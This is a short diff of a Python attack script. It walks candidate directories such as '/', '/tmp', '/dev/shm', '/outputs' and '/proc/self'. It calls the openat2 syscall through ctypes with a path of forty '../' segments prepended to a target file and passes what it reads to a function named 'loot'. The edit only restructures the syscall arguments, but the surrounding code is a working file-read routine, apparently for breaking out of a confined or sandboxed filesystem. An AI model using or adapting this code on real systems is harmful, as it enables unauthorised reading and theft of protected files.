@@ -22,7 +22,8 @@ for place in ("/", "/tmp", "/dev/shm", "/outputs", "/proc/self", "/usr", os.path
 
     how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
     for path in ("../" * 40 + aim.file.lstrip("/"), aim.file):
-        descriptor = libc.syscall(ctypes.c_long(OPENAT2), ctypes.c_long(held), path.encode(), how, ctypes.c_long(24))
+        words = (ctypes.c_long(OPENAT2), ctypes.c_long(held), path.encode(), how, ctypes.c_long(24))
+        descriptor = libc.syscall(*words)
         if descriptor >= 0:
             loot(os.read(descriptor, 4096))
             os.close(descriptor)
